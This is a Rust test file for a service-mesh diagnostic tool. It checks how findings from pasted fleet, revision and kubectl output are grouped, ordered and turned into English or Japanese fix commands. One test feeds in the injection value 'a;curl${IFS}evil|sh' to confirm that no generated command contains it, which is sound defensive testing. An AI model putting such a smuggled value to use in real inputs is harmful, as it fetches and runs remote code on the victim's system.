//! What a report makes of several findings: one for each cause, causes first, names only where they are certain.
#![allow(clippy::unwrap_used)]

mod support;

use std::collections::{BTreeMap, BTreeSet};

use meshmedic_rules::report::{Finding, Report};
use meshmedic_rules::time::Timestamp;
use meshmedic_rules::{Input, Lang, Options, analyze};

fn report_of(inputs: &[(&str, &str)], options: &Options) -> Report {
    let inputs: Vec<Input> = inputs
        .iter()
        .map(|(source, text)| Input { source: (*source).to_owned(), bytes: text.as_bytes(), kind: None })
        .collect();
    analyze(&inputs, options, &mut |_, _| {})
}

fn report(text: &str) -> Report {
    report_of(&[("paste", text)], &Options::default())
}

fn membership(name: &str, location: &str, condition: &str, state: &str) -> String {
    format!(
        "  projects/123456789012/locations/{location}/memberships/{name}:\n    servicemesh:\n      conditions:\n      - code: {condition}\n        severity: ERROR\n      controlPlaneManagement:\n        state: {state}\n    state:\n      updateTime: '2026-07-30T00:00:00Z'\n"
    )
}

fn fleet(memberships: &[String]) -> String {
    format!(
        "membershipStates:\n{}name: projects/retail-prod/locations/global/features/servicemesh\n",
        memberships.concat()
    )
}

fn of<'r>(report: &'r Report, rule: &str) -> Vec<&'r Finding> {
    report.findings.iter().filter(|finding| finding.rule == rule).collect()
}

#[test]
fn each_membership_is_a_finding_of_its_own() {
    let paste = fleet(&[
        membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "FAILED_PRECONDITION"),
        membership("shop-2", "europe-west1", "CNI_INSTALLATION_FAILED", "ACTIVE"),
        membership("shop-3", "global", "VPCSC_GA_SUPPORTED", "FAILED_PRECONDITION"),
    ]);
    let report = report(&paste);
    let names = |rule: &str| -> Vec<String> {
        of(&report, rule).iter().map(|finding| finding.values["MEMBERSHIP"].clone()).collect()
    };
    assert_eq!(names("fleet/cni-installation-failed"), ["shop-1", "shop-2"]);
    assert_eq!(names("control-plane/failed-precondition"), ["shop-1", "shop-3"]);
    // What ails one membership explains nothing of another.
    let explaining: Vec<bool> =
        of(&report, "fleet/cni-installation-failed").iter().map(|finding| !finding.explains.is_empty()).collect();
    assert_eq!(explaining, [true, false]);
    let order: Vec<(&str, &str)> = report
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.values.get("MEMBERSHIP").map_or("", String::as_str)))
        .collect();
    let at = |rule: &str, name: &str| order.iter().position(|known| *known == (rule, name)).unwrap();
    assert_eq!(at("control-plane/failed-precondition", "shop-1"), at("fleet/cni-installation-failed", "shop-1") + 1);
}

#[test]
fn a_name_with_two_meanings_fills_only_its_own_findings() {
    let paste = fleet(&[
        membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED"),
        membership("shop-2", "europe-west1", "VPCSC_GA_SUPPORTED", "ACTIVE"),
    ]);
    let report = report(&paste);
    assert!(
        !report.values.contains_key("MEMBERSHIP") && !report.values.contains_key("MEMBERSHIP_LOCATION"),
        "{:?}",
        report.values
    );
    assert_eq!(report.values["FLEET_PROJECT_ID"], "retail-prod");
    let finding = of(&report, "control-plane/stalled")[0];
    assert_eq!(finding.values["MEMBERSHIP_LOCATION"], "us-central1");
}

#[test]
fn a_membership_says_nothing_of_where_its_cluster_is_or_whose() {
    for location in ["global", "us-central1"] {
        let report = report(&fleet(&[membership("shop-1", location, "CNI_INSTALLATION_FAILED", "STALLED")]));
        assert_eq!(report.values["MEMBERSHIP"], "shop-1");
        for finding in &report.findings {
            assert_eq!(finding.values["MEMBERSHIP_LOCATION"], location);
            for name in ["LOCATION", "PROJECT_ID", "PROJECT_NUMBER"] {
                assert!(!finding.values.contains_key(name), "{name}: {:?}", finding.values);
            }
        }
    }
}

#[test]
fn what_was_set_fills_what_the_paste_does_not_say_and_nothing_else() {
    let set = [("PROJECT_ID", "mine"), ("FLEET_PROJECT_ID", "mine"), ("CLUSTER_NAME", "c-1")]
        .map(|(name, value)| (name.to_owned(), value.to_owned()));
    let options = Options { set: set.into_iter().collect(), ..Options::default() };
    let paste =
        fleet(&[membership("shop-1", "us-central1", "NODEPOOL_WORKLOAD_IDENTITY_FEDERATION_REQUIRED", "ACTIVE")]);
    let report = report_of(&[("paste", &paste)], &options);
    let finding = of(&report, "fleet/nodepool-workload-identity-federation-required")[0];
    let commands: Vec<&str> = finding.fix.iter().filter_map(|step| step.command.as_deref()).collect();
    assert!(commands[0].contains("--cluster=c-1") && commands[0].contains("--project=mine"), "{commands:?}");
    assert!(commands.iter().any(|command| command.ends_with("mesh describe --project=retail-prod")), "{commands:?}");
    let update =
        finding.fix.iter().find(|step| step.command.as_deref().is_some_and(|c| c.contains("node-pools update")));
    assert!(update.is_some_and(|step| step.missing.contains(&"NODE_POOL".to_owned())), "{update:?}");
}

#[test]
fn names_learned_in_one_input_fill_the_commands_of_another() {
    let describe = "$ kubectl -n shop describe rs cart-1\n";
    let error = "no endpoints available for service \"istiod\"";
    let report = report_of(&[("a", describe), ("b", error)], &Options::default());
    let finding = of(&report, "webhook/istiod-no-endpoints")[0];
    assert_eq!(finding.evidence[0].source, "b");
    assert!(finding.fix.iter().any(|step| step.command.as_deref().is_some_and(|command| command.contains("-n shop"))));
}

#[test]
fn the_order_of_the_inputs_does_not_change_what_is_found() {
    let one = fleet(&[membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED")]);
    let two = "no endpoints available for service \"istiod\"";
    let rules = |report: Report| {
        let mut counts = BTreeMap::new();
        report.findings.into_iter().for_each(|finding| *counts.entry(finding.rule).or_insert(0) += 1);
        counts
    };
    let forth = rules(report_of(&[("a", &one), ("b", two)], &Options::default()));
    assert_eq!(forth, rules(report_of(&[("b", two), ("a", &one)], &Options::default())));
}

#[test]
fn provisioning_is_a_fault_only_after_ten_minutes() {
    let paste = fleet(&[membership("shop-1", "us-central1", "VPCSC_GA_SUPPORTED", "PROVISIONING")]);
    for (now, level) in [("2026-07-30T00:10:00Z", "note"), ("2026-07-30T00:10:01Z", "problem")] {
        let options = Options { now: Timestamp::parse(now), ..Options::default() };
        let report = report_of(&[("paste", &paste)], &options);
        let found = serde_json::to_value(of(&report, "control-plane/provisioning")[0].level).unwrap();
        assert_eq!(found, level, "{now}");
    }
}

#[test]
fn a_healthy_mesh_has_passed_checks_and_no_headline() {
    let report = report(&fleet(&[membership("shop-1", "us-central1", "VPCSC_GA_SUPPORTED", "ACTIVE")]));
    assert!(report.passed.iter().any(|passed| passed.text.contains("ACTIVE")), "{:?}", report.passed);
    assert_eq!(report.summary.headline, "No known problem in what was pasted.");
}

#[test]
fn what_is_recognised_without_a_word_on_its_state_is_no_health() {
    let specs = "membershipSpecs:\n  projects/123456789012/locations/us-central1/memberships/shop-1:\n    mesh:\n      management: MANAGEMENT_AUTOMATIC\nname: projects/retail-prod/locations/global/features/servicemesh\nresourceState:\n  state: ACTIVE\nspec: {}\n";
    let inputs = [Input { source: "paste".to_owned(), bytes: specs.as_bytes(), kind: None }];
    let said = |lang| analyze(&inputs, &Options { lang, ..Options::default() }, &mut |_, _| {}).summary;
    assert!(said(Lang::En).unjudged);
    assert_eq!(said(Lang::En).headline, "Recognized, but nothing here says whether it is well.");
    assert_eq!(said(Lang::Ja).headline, "内容は認識しましたが、正常かどうかを示す情報はありません。");
    let healthy = report(&fleet(&[membership("shop-1", "us-central1", "VPCSC_GA_SUPPORTED", "ACTIVE")]));
    let text = report("hello, it does not work");
    let ill = report(&fleet(&[membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED")]));
    for other in [&healthy, &text, &ill] {
        assert!(!other.summary.unjudged, "{}", other.summary.headline);
    }
    assert_eq!(text.summary.headline, "Not recognized: no output and no message here is known to meshmedic.");
}

#[test]
fn what_to_paste_next_is_of_the_topic_and_holds_the_names_seen() {
    let first =
        |text: &str| -> Vec<String> { report(text).next.iter().take(2).map(|next| next.needs.clone()).collect() };
    let timeout = "Error from server (InternalError): Internal error occurred: failed calling webhook \"rev.namespace.sidecar-injector.istio.io\": failed to call webhook: Post \"https://istiod-asm-1143-0.istio-system.svc:443/inject?timeout=10s\": context deadline exceeded";
    assert_eq!(first(timeout), ["replicaset", "webhook-configuration-list"]);
    // Where no rule knows the fault, its words say what it is about.
    assert_eq!(first("the webhook of our mesh answers with 418, why?"), ["replicaset", "webhook-configuration-list"]);
    assert_eq!(first("istio-proxy does not start, why?")[0], "envoy-log");
    assert_eq!(first("the forwarding-rule of our service, why?")[0], "backend-health");
    assert_eq!(first("hello, it does not work")[0], "mesh-describe");
    let named = report(&format!("$ kubectl -n shop describe rs cart-5c9d7b\n{timeout}\n"));
    let asked = named.next.iter().find(|next| next.needs == "replicaset").map(|next| next.command.as_str());
    assert!(asked.is_none_or(|command| command == "kubectl describe replicaset cart-5c9d7b -n shop"), "{asked:?}");
    let pods = named.next.iter().find(|next| next.needs == "events").unwrap();
    assert!(pods.command.contains("-n shop"), "{}", pods.command);
}

#[test]
fn unknown_text_says_what_to_paste_next() {
    let report = report("hello, it does not work");
    assert_eq!(report.artifacts[0].kind, "text");
    assert!(report.findings.is_empty());
    assert_eq!(report.not_checked[0].needs, "mesh-describe");
    assert_eq!(report.not_checked.len(), report.tool.rules);
}

#[test]
fn a_hostile_name_reaches_no_command() {
    let paste = fleet(&[membership("a;curl${IFS}evil|sh", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED")]);
    let report = report(&paste);
    for step in report.findings.iter().flat_map(|finding| finding.fix.iter().chain(&finding.confirm)) {
        assert!(!step.commands().any(|command| command.contains("evil")), "{step:?}");
    }
}

/// Where nothing shows an output's end, what it lacks proves little, and the report says so.
#[test]
fn a_finding_that_rests_on_what_an_open_output_lacks_says_so() {
    for (name, open) in [
        ("injection/revision-webhook-missing/match-old-revision", true),
        ("injection/revision-webhook-missing/match-old-revision-to-its-end", false),
        ("vm/inbound-interception-missing/match-port", true),
        ("vm/inbound-interception-missing/match-port-to-its-end", false),
    ] {
        for (lang, said) in [(Lang::En, "nothing shows that it ended there"), (Lang::Ja, "末尾かどうか")] {
            let report = support::report(&support::case(name), lang);
            let finding = &report.findings[0];
            assert_eq!(finding.false_positives.contains(said), open, "{name}: {}", finding.false_positives);
        }
    }
}

/// Japanese where words are ours, and nothing of a figure where there is none: other reports keep their form.
#[test]
fn figures_speak_the_reports_language_and_are_left_out_elsewhere() {
    let ascii = |text: &str| text.is_ascii();
    for (name, of_timeline) in [
        ("proxy/startup-connection-refused/match-ready-later", true),
        ("envoy/vip-not-intercepted/match-forwarding-rule", false),
        ("vm/inbound-interception-missing/match-port", false),
        ("traffic/some-endpoints-unhealthy/match-yaml", false),
    ] {
        let case = support::case(name);
        for lang in [Lang::En, Lang::Ja] {
            let report = support::report(&case, lang);
            let finding = &report.findings[0];
            assert_eq!((finding.timeline.is_empty(), finding.table.is_none()), (!of_timeline, of_timeline), "{name}");
            for event in &finding.timeline {
                assert_eq!(ascii(&event.text), lang == Lang::En, "{name}: {}", event.text);
            }
            if let Some(table) = &finding.table {
                for head in table.columns.iter().filter(|head| *head != "VIP") {
                    assert_eq!(ascii(head), lang == Lang::En, "{name}: {head}");
                }
                for cell in table.rows.iter().flatten().map(|cell| &cell.text) {
                    let english = ["yes", "no", "all"].contains(&cell.as_str()) || cell.contains("not known");
                    assert!(if lang == Lang::En { cell.is_ascii() } else { !english }, "{name}: {cell}");
                }
                assert!(table.rows.iter().all(|row| row.len() == table.columns.len()), "{name}");
            }
        }
    }
    let other = report(&fleet(&[membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "ACTIVE")]));
    let json = serde_json::to_string(&other).unwrap();
    assert!(!other.findings.is_empty() && !json.contains("\"timeline\"") && !json.contains("\"table\""));
}

#[test]
fn a_report_says_of_each_artifact_what_was_checked() {
    let paste = "$ kubectl get namespace -L istio.io/rev\nNAME   STATUS   AGE   REV\nshop   Active   4d    asm-managed\n$ echo\nHello.\n";
    let report = report(paste);
    let [namespaces, text] = &report.artifacts[..] else { panic!("{:?}", report.artifacts) };
    assert!(namespaces.checked.contains(&"injection/revision-webhook-missing".to_owned()), "{:?}", namespaces.checked);
    assert!(namespaces.checked.is_sorted());
    assert!(text.checked.is_empty());
    let said = |artifact, lang| meshmedic_rules::report::coverage(&report, artifact, lang);
    let rules = namespaces.checked.len();
    assert_eq!(
        said(0, Lang::En),
        format!(
            "Checked: {rules} rules and all known messages; 0 findings, 0 healthy. Nothing here says whether it is well."
        )
    );
    assert!(said(0, Lang::Ja).ends_with("正常かどうかを示す情報はありません。"), "{}", said(0, Lang::Ja));
    assert_eq!(said(1, Lang::En), "Checked: all known messages; 0 findings, 0 healthy.");
    assert!(said(1, Lang::Ja).starts_with("確認: すべての既知のメッセージ"));
}

#[test]
fn what_a_rule_wants_beside_what_it_saw_is_asked_for_first() {
    let paste =
        "$ kubectl get namespace -L istio.io/rev\nNAME   STATUS   AGE   REV\nshop   Active   4d    asm-managed\n";
    let alone = report(paste);
    let first: Vec<(&str, &str)> =
        alone.not_checked.iter().take(2).map(|open| (open.rule.as_str(), open.needs.as_str())).collect();
    assert_eq!(
        first,
        [
            ("injection/revision-webhook-missing", "webhook-configuration-list"),
            ("injection/sidecar-missing", "pod-list")
        ]
    );
    let webhooks = "$ kubectl get mutatingwebhookconfiguration\nNAME                 WEBHOOKS   AGE\nistiod-asm-managed   2          20d\n";
    let both = report(&format!("{paste}{webhooks}"));
    assert!(both.not_checked.iter().all(|open| open.rule != "injection/revision-webhook-missing"));
    // A VIP that nobody named is asked for by the command that lists them.
    let vm = "$ sudo iptables -t nat -S\n-P PREROUTING ACCEPT\n-P OUTPUT ACCEPT\n-N SERVICE_PROXY_SERVICE_CIDRS\n-A OUTPUT -p tcp -j SERVICE_PROXY_SERVICE_CIDRS\n-A SERVICE_PROXY_SERVICE_CIDRS -d 10.7.240.0/20 -p tcp -j SERVICE_PROXY_REDIRECT\n";
    let open = &report(vm).not_checked[0];
    assert_eq!((open.rule.as_str(), open.needs.as_str()), ("vm/outbound-interception-missing", "forwarding-rules"));
    assert!(open.command.starts_with("gcloud compute forwarding-rules list"), "{}", open.command);
}

/// A revision in the form of `kubectl get controlplanerevision -o yaml` whose conditions are these: type, status, message.
fn revision(name: &str, conditions: &[(&str, &str, &str)]) -> String {
    let conditions: String = conditions
        .iter()
        .map(|(of, status, message)| format!("  - message: '{message}'\n    status: '{status}'\n    type: {of}\n"))
        .collect();
    format!(
        "apiVersion: mesh.cloud.google.com/v1beta1\nkind: ControlPlaneRevision\nmetadata:\n  name: {name}\n  namespace: istio-system\n  \
         uid: {name}\nspec:\n  type: managed_service\nstatus:\n  conditions:\n{conditions}---\n"
    )
}

#[test]
fn what_ails_one_revision_explains_nothing_of_another() {
    let failed = ("Reconciled", "False", "The provisioning process has not completed successfully");
    let unsupported = ("Stalled", "True", "Unsupported ControlPlaneRevision name: asm-1187-26");
    let explained = |revisions: [String; 2]| {
        let report = report(&revisions.concat());
        assert_eq!(of(&report, "control-plane/not-reconciled").len(), 1, "{report:?}");
        of(&report, "control-plane/unsupported-name")[0].explains.contains(&"control-plane/not-reconciled".to_owned())
    };
    let well = ("Reconciled", "True", "The provisioning process has completed successfully");
    let own = [revision("asm-1187-26", &[failed, unsupported]), revision("asm-managed-rapid", &[well])];
    assert!(explained(own));
    let others = [revision("asm-1187-26", &[well, unsupported]), revision("asm-managed-rapid", &[failed])];
    assert!(!explained(others));
}

/// A rule that fired is decided: neither its own output is asked for, nor what it would have looked at beside it.
#[test]
fn a_rule_that_fired_is_not_listed_as_not_checked() {
    for case in support::cases().iter().filter(|case| case.must_match) {
        let report = support::report(case, Lang::En);
        let fired: BTreeSet<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
        let open = report.not_checked.iter().find(|open| fired.contains(open.rule.as_str()));
        assert_eq!(open, None, "{}", case.path);
    }
}
